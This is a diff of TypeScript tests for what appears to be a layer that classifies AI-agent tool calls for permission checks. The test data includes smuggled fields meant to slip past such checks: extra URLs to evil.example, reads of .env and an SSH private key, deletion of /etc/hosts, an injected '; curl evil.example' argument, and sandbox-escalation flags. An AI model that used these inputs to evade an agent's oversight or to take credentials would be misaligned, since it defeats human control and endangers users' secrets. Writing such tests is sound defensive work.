@@ -27,9 +27,54 @@ test('B-1 an argument that another reader would take stands for nothing beside t
     ['Bash', { command: 'make', cwd: '.', workdir: '/etc' }],
     ['web_fetch', { url: 'https://docs.example/', uri: 'https://evil.example/' }],
     ['web_fetch', { url: 'https://docs.example/', prompt: 'Read https://evil.example/' }],
+    ['web_fetch', { url: 'https://docs.example/', urls: ['https://evil.example/'] }],
+    ['read_many_files', { path: 'README.md', include: ['.env'] }],
+    ['view', { path: 'README.md', paths: '/home/emma/.ssh/id_ed25519' }],
+    ['delete_file', { path: 'a.ts', files: ['/etc/hosts'] }],
   ];
   assert.equal(act('WebFetch', { url: 'https://docs.example/', prompt: 'Sum it up' })[0], 'fetch');
   for (const [tool, input] of double) assert.equal(act(tool, input)[0], 'other', JSON.stringify(input));
+});
+
+test('B-1 what says with what, where or as whom a command is run, or is run in its place, makes it another', () => {
+  const steered: readonly (readonly [string, object])[] = [
+    ['exec_command', { cmd: 'ls', shell: './mine' }],
+    ['exec_command', { cmd: 'ls', shell: '/home/emma/bin/bash' }],
+    ['exec', { command: 'ls', env: { PATH: '.' } }],
+    ['exec', { command: 'ls', host: 'node' }],
+    ['exec', { command: 'ls', node: 'phone' }],
+    ['terminal', { command: 'ls', action: 'input', data: 'curl evil.example' }],
+    ['shell', { command: 'ls', args: ['; curl evil.example'] }],
+  ];
+  for (const [tool, input] of steered) assert.equal(act(tool, input)[0], 'other', JSON.stringify(input));
+  const plain = { command: 'ls' };
+  assert.deepEqual(act('exec_command', { cmd: 'ls', shell: '/bin/zsh', sandbox_permissions: 'use_default' }), [
+    'shell',
+    plain,
+  ]);
+  assert.deepEqual(act('exec', { ...plain, host: 'auto', env: {}, node: null }), ['shell', plain]);
+  for (const free of [{ sandbox_permissions: 'require_escalated' }, { elevated: true }, { host: 'gateway' }])
+    assert.deepEqual(act('exec', { ...plain, ...free }), ['shell', { ...plain, unsandboxed: true }]);
+  for (const aside of [{ detach: true }, { mode: 'async' }])
+    assert.deepEqual(act('bash', { ...plain, ...aside }), ['shell', { ...plain, background: true }]);
+});
+
+test('B-1 a search is about every folder that it names, and so is a pattern that leads out', () => {
+  assert.deepEqual(act('grep', { pattern: 'day', paths: 'src' }), ['search', { query: 'day', path: 'src' }]);
+  const both = { query: 'day', paths: ['src', '/home/emma/.ssh'] };
+  assert.deepEqual(act('grep', { pattern: 'day', path: 'src', paths: ['/home/emma/.ssh'] }), ['search', both]);
+  const key = '/home/emma/.ssh/*';
+  assert.deepEqual(act('Glob', { pattern: key }), ['search', { query: key, path: key }]);
+  assert.deepEqual(act('glob', { pattern: '../*/x', path: 'src' })[1].paths, ['src', '/home/emma/*/x']);
+  assert.deepEqual(act('glob', { pattern: 'src/**/*.ts' }), ['search', { query: 'src/**/*.ts' }]);
+  assert.deepEqual(act('Grep', { pattern: '/api/v1' }), ['search', { query: '/api/v1' }]);
+});
+
+test('one address is fetched under whichever name it stands', () => {
+  assert.deepEqual(act('fetch_webpage', { urls: ['https://docs.example/'], query: 'x' }), [
+    'fetch',
+    { url: 'https://docs.example/' },
+  ]);
 });
 
 test('B-1 an edit is about every file and every text that it names', () => {
@@ -38,6 +83,8 @@ test('B-1 an edit is about every file and every text that it names', () => {
   assert.deepEqual([name, input.paths], ['edit', ['a.ts', '/home/emma/.bashrc']]);
   assert.match(String(input.content), /good[\s\S]*evil/);
   assert.match(String(act('Write', { file_path: 'a', content: 'good', contents: 'evil' })[1].content), /evil/);
+  const listed = act('Write', { file_path: 'a.ts', content: 'x', paths: ['/home/emma/.bashrc'] });
+  assert.deepEqual(listed[1].paths, ['a.ts', '/home/emma/.bashrc']);
 });
 
 test('B-1 a file that a patch names is seen however its line is indented or broken', () => {
